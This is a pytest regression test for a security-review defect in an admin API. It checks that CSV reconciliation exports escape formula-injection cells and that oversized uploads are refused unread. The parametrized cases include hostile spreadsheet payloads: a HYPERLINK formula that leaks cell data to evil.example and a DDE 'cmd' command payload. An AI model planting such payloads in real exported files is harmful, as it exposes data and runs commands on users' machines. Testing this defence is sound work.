"""Defect 8 of the security review, the reconciliation's files: the CSV was
open to formula injection (``=HYPERLINK(...)`` in an external id, which any
channel's buyer or a forged request can choose), and the export comparison
read the whole body before checking its size."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from admin_api.app import create_admin_app
from admin_api.auth import KeyAuth
from admin_api.reconcile import Entry, Report
from infra.settings import Settings
from infra.spreadsheets import safe_cell
from infra.topology import build_topology

ROOT = {"Authorization": "Bearer root-token"}


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(cell: str) -> None:
    report = Report(date(2026, 11, 25), "Asia/Shanghai", None)
    report.entries.append(Entry("web-shop", cell, None, "rejected", cell))
    rows = list(csv.reader(io.StringIO(report.as_csv())))
    assert rows[1][1] == "'" + cell and rows[1][4] == "'" + cell


def test_ordinary_cells_are_left_alone() -> None:
    assert [safe_cell(v) for v in ("WS-1001", "淘宝订单 3301", None, 12.5)] == [
        "WS-1001",
        "淘宝订单 3301",
        "",
        "12.5",
    ]


def test_an_export_declared_over_the_limit_is_refused_unread(sqlite_engine: Engine) -> None:
    app = create_admin_app(
        sqlite_engine, KeyAuth(sqlite_engine, {"root": "root-token"}), build_topology(Settings())
    )
    with TestClient(app) as client:
        answer = client.post(
            "/reconciliation/compare",
            params={"day": "2026-11-25", "channel": "web-shop"},
            content=b"external_id\nWS-1\n",
            headers={**ROOT, "Content-Type": "text/csv", "Content-Length": str(25 * 2**20)},
        )
    assert answer.status_code == 413
